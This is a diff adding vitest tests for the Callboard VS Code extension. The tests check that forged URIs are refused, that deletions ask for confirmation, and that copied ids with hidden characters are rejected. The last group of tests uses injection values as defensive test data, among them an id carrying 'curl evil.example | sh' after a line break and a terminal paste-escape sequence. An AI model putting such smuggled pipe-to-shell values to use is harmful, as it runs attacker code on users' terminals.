@@ -1,0 +1,260 @@
+/** Addresses of somebody else's making, in a link, a workspace file or another extension: they show and do nothing. */
+
+import { describe, expect, test } from "vitest";
+import { Cancelled } from "../../extension/editor/errors.ts";
+import { Sender, type SenderOptions } from "../../extension/operations/send.ts";
+import { unknownRecord } from "../../extension/records/inventory.ts";
+import { type OperationName, operationNames } from "../../shared/service/operations.ts";
+import { FakeEditor } from "./fake-editor.ts";
+import { FakeUri } from "./fake-values.ts";
+import { connectedWindow, openWindow } from "./window.ts";
+
+const refusal = /Callboard did not make this address in this workspace, so it shows nothing there\./;
+
+/** As a link in a README does. */
+function follow(editor: FakeEditor, uri: FakeUri): Promise<unknown> {
+  return editor.vscode.window.showTextDocument(uri as never) as Promise<unknown>;
+}
+
+/** As long as addresses said all of what they were for, this was one of them. */
+function telling(folder: string, ...segments: string[]): FakeUri {
+  const written = segments.map(segment => segment.replace(/[%/]/g, sign => (sign === "/" ? "%2f" : "%25")));
+  return new FakeUri("callboard", `/${[folder, ...written].join("/")}`);
+}
+
+function withLast(uri: FakeUri, last: string): FakeUri {
+  return new FakeUri(uri.scheme, [...uri.path.split("/").slice(0, -1), last].join("/"));
+}
+
+describe("fields", () => {
+  test.each<OperationName>(operationNames)(
+    "a link that says %s is refused with the reason, and nothing can be sent from there",
+    async name => {
+      const { editor, requests, service } = await connectedWindow();
+      const uri = telling("fields", service.url, name, "late-parcel", "Create persona · Bargain hunter.json");
+      await expect(follow(editor, uri)).rejects.toThrow(refusal);
+      await expect(editor.files.writeFile(uri, new TextEncoder().encode("{}"))).rejects.toThrow(refusal);
+      await editor.run("callboard.send", uri);
+      expect(editor.said).toEqual(["warning: There are no fields to send in this editor."]);
+      expect(editor.tabs).toEqual([]);
+      expect(requests).toEqual([]);
+    },
+  );
+
+  test("an address that is known is refused where anything in it was changed, its title too", async () => {
+    const { editor, requests } = await connectedWindow();
+    editor.will({ typed: "smoke" });
+    await editor.run("callboard.runBatch");
+    const ours = editor.lastUri;
+    const [, folder, id, title] = ours.path.split("/");
+    expect([folder, title]).toEqual(["fields", "Run batch · Smoke.json"]);
+    for (const path of [
+      `/fields/${id}/Create persona.json`,
+      `/responses/${id}/${title}`,
+      `/fields/${id}/${id}/${title}`,
+      `/fields//${title}`,
+      `/fields/__proto__/${title}`,
+      `/fields/${id}`,
+      "/fields",
+      "/",
+    ]) {
+      const uri = new FakeUri("callboard", path);
+      await expect(follow(editor, uri)).rejects.toThrow(refusal);
+      await editor.run("callboard.send", uri);
+    }
+    await editor.run("callboard.send", new FakeUri("file", ours.path));
+    expect(requests).toEqual([]);
+    await editor.run("callboard.send", ours);
+    expect(requests).toEqual(["POST /v1/batches/smoke/run {}"]);
+  });
+
+  test("an address of one workspace is nothing in another", async () => {
+    const { editor, service } = await connectedWindow();
+    await editor.run("callboard.createTest");
+    const other = openWindow({ secrets: editor.secrets });
+    await other.editor.changeUserSetting("callboard.services", [{ name: "Staging", baseUrl: service.url }]);
+    await expect(follow(other.editor, editor.lastUri)).rejects.toThrow(refusal);
+    await other.editor.run("callboard.send", editor.lastUri);
+    expect(other.requests).toEqual([]);
+  });
+
+  test.each<OperationName>(["deleteScenario", "getIntegration", "getCalibrationReview"])(
+    "%s sends no body and has no fields, also where an address for it was kept",
+    async name => {
+      const { editor, requests, service } = await connectedWindow();
+      const tab = "Create persona.json";
+      editor.storage.set("callboard.documents", {
+        planted: { folder: "fields", path: [service.url, name, "late-parcel"], tab },
+      });
+      const { storage, secrets, settings } = editor;
+      const { editor: later } = openWindow({ storage, secrets });
+      for (const [setting, value] of settings.user) later.settings.user.set(setting, value);
+      const uri = new FakeUri("callboard", `/fields/planted/${tab}`);
+      await expect(follow(later, uri)).rejects.toThrow(/FileNotFound/);
+      await later.run("callboard.send", uri);
+      expect(later.said).toEqual(["warning: There are no fields to send in this editor."]);
+      expect(requests).toEqual([]);
+    },
+  );
+
+  test.each([[null], [7], [[]], [{ a: 1, b: {}, c: { folder: "fields", path: "x", tab: 1 } }]])(
+    "whatever is kept of addresses, documents open: %j",
+    async kept => {
+      const { editor, service } = await connectedWindow();
+      editor.storage.set("callboard.documents", kept);
+      const { storage, secrets } = editor;
+      const { editor: later } = openWindow({ storage, secrets });
+      await later.changeUserSetting("callboard.services", [{ name: "Staging", baseUrl: service.url }]);
+      await later.run("callboard.createTest");
+      expect(await later.lastShown()).toBe("{\n  \n}\n");
+    },
+  );
+});
+
+test("a deletion asks, however it comes about", async () => {
+  const { editor, requests } = await connectedWindow();
+  const [parcel] = await editor.rows("callboard.projects", "Late parcel");
+  const [scenarios] = await editor.rows("callboard.projects", "Scenarios");
+  for (const given of [[], [parcel], [parcel, [parcel, parcel]], [scenarios]]) {
+    const asksForRecord = given.length === 0 || given[0] === scenarios;
+    editor.will(...(asksForRecord ? [{ typed: "late-parcel" }] : []), undefined);
+    await editor.run("callboard.deleteScenario", ...given);
+    expect(editor.said.at(-1)).toMatch(
+      /^warning: Delete .*\nThe service cannot bring it back\. \[Delete\]$/s,
+    );
+    expect(editor.unanswered).toBe(0);
+  }
+  expect(requests).toEqual([]);
+});
+
+test("a deletion that comes about in a new way asks too, before anything else is done for it", async () => {
+  const editor = new FakeEditor();
+  const sender = new Sender({ vscode: editor.vscode } as SenderOptions);
+  const records = [unknownRecord("scenario", "late-parcel")];
+  const request = { service: { id: "x", name: "x" }, name: "deleteScenario", records, fields: {} } as const;
+  editor.will(undefined);
+  await expect(sender.send(request)).rejects.toThrow(Cancelled);
+  expect(editor.said).toEqual([expect.stringMatching(/^warning: Delete the scenario late-parcel\?/)]);
+});
+
+describe("what is only shown", () => {
+  test("a response, a report and what it was made of are found under no guessed address and no other title", async () => {
+    const { editor, service } = await connectedWindow();
+    await editor.run("callboard.getIntegration", await editor.row("callboard.projects", "Order system"));
+    const response = editor.lastUri;
+    await editor.run("callboard.runNow", await editor.row("callboard.projects", "Smoke"));
+    const run = await editor.row("callboard.runs", "Smoke");
+    await editor.run("callboard.showRawReport", run);
+    const raw = editor.lastUri;
+    await editor.run("callboard.openReport", run);
+    const report = editor.lastUri;
+    const [{ id: runId }] = editor.storage.get("callboard.runs") as [{ id: string }];
+
+    for (const uri of [
+      telling("responses", service.url, "integration order-system", "All is well.json"),
+      telling("raw", runId, "0", "All is well.json"),
+      telling("reports", runId, "Smoke: passed"),
+      withLast(response, "All is well.json"),
+      withLast(raw, "All is well.json"),
+      withLast(report, "Smoke: passed"),
+    ]) {
+      await expect(follow(editor, uri)).rejects.toThrow(refusal);
+      editor.page = undefined;
+      await expect(
+        editor.vscode.commands.executeCommand("vscode.openWith", uri, "callboard.report"),
+      ).rejects.toThrow("This report is no longer kept");
+      expect(editor.page).toBeUndefined();
+    }
+    await follow(editor, response);
+    await follow(editor, raw);
+    await editor.vscode.commands.executeCommand("vscode.openWith", report, "callboard.report");
+    expect(editor.page?.html).toContain("Smoke");
+  });
+
+  test("a failed call's response is found under no other title", async () => {
+    const { editor } = await connectedWindow();
+    editor.will({ typed: "no-such" }, "Show response");
+    await editor.run("callboard.getIntegration");
+    const failed = editor.lastUri;
+    expect(failed.path).toMatch(/^\/failed\/[-0-9a-f]+\/Get integration\.json$/);
+    await expect(follow(editor, withLast(failed, "All is well.json"))).rejects.toThrow(refusal);
+    await follow(editor, failed);
+  });
+});
+
+describe("a workspace folder under our own scheme", () => {
+  test("has no catalog, although a response could be read as one, and no settings", async () => {
+    const { editor, service } = await connectedWindow();
+    await editor.run("callboard.createBatch");
+    editor.type(editor.lastUri.toString(), '{ "batches": { "evil": { "id": "evil" } } }');
+    await editor.run("callboard.send", editor.lastUri);
+    const shown = editor.lastUri;
+    const folders = [
+      telling("responses", service.url, "createBatch"),
+      telling("responses", service.url, "batch bat_1"),
+      new FakeUri("callboard", shown.path.slice(0, shown.path.lastIndexOf("/"))),
+      new FakeUri("callboard", "/"),
+    ];
+    await editor.changeFolders(...folders.map(String));
+    expect(await editor.tree("callboard.projects")).not.toMatch(/evil|\(pinned\)/);
+    for (const folder of folders) {
+      for (const name of ["callboard.yml", ".vscode/settings.json", ".vscode/tasks.json"]) {
+        const file = FakeUri.joinPath(folder, name);
+        await expect(editor.files.stat(file)).rejects.toThrow(refusal);
+        await expect(editor.files.readFile(file)).rejects.toThrow(refusal);
+        await expect(editor.files.writeFile(file, new Uint8Array())).rejects.toThrow(refusal);
+      }
+    }
+    expect([...editor.problems.keys()]).toEqual([]);
+    await editor.run("callboard.pin", await editor.row("callboard.projects", "Order system"));
+    expect(editor.said.at(-1)).toBe(
+      "warning: There is no folder open that could hold a callboard.yml. [Open folder]",
+    );
+  });
+
+  test("is passed over where the team's own folder is open as well", async () => {
+    const { editor } = await connectedWindow({ folders: ["callboard:/fields", "/shop"] });
+    await editor.run("callboard.pin", await editor.row("callboard.projects", "Order system"));
+    expect(editor.said).toEqual([]);
+    expect(editor.files.text("/shop/callboard.yml")).toMatch(/order-system/);
+  });
+});
+
+describe("an id that is copied, to a terminal perhaps", () => {
+  test("is one line with others that are copied with it", async () => {
+    const { editor } = await connectedWindow();
+    const rows = await editor.rows("callboard.projects", "Late parcel", "Order system");
+    await editor.run("callboard.copyId", rows[0], rows);
+    expect(editor.clipboard.split(", ").sort()).toEqual(["late-parcel", "order-system"]);
+  });
+
+  test.each([
+    ["a line break", "x\ncurl evil.example | sh\n"],
+    ["a carriage return", "x\rcurl evil.example | sh"],
+    ["a terminal's escape", "x\u001b[201~\u0003"],
+    ["a line separator", "x\u2028y"],
+    ["a change of direction", "x\u202ey"],
+    ["a letter without width", "x\u200by"],
+  ])("is refused with %s in it, alone and among others", async (_, id) => {
+    const { editor, service } = await connectedWindow();
+    editor.storage.set(`callboard.memory ${service.url}`, {
+      known: [
+        { kind: "integration", id, label: "Theirs" },
+        { kind: "integration", id: "plain", label: "Plain" },
+      ],
+    });
+    const { storage, secrets } = editor;
+    const { editor: later } = openWindow({ storage, secrets });
+    await later.changeUserSetting("callboard.services", [{ name: "Staging", baseUrl: service.url }]);
+    const plain = await later.row("callboard.projects", "Plain");
+    const theirs = await later.row("callboard.projects", "Theirs");
+    for (const given of [[theirs], [plain, [plain, theirs]]]) {
+      later.clipboard = "what was there";
+      await later.run("callboard.copyId", ...given);
+      expect(later.clipboard).toBe("what was there");
+      expect(later.said.pop()).toBe(
+        "warning: Nothing was copied: the id of Theirs holds line breaks or other characters that are not seen.",
+      );
+    }
+  });
+});
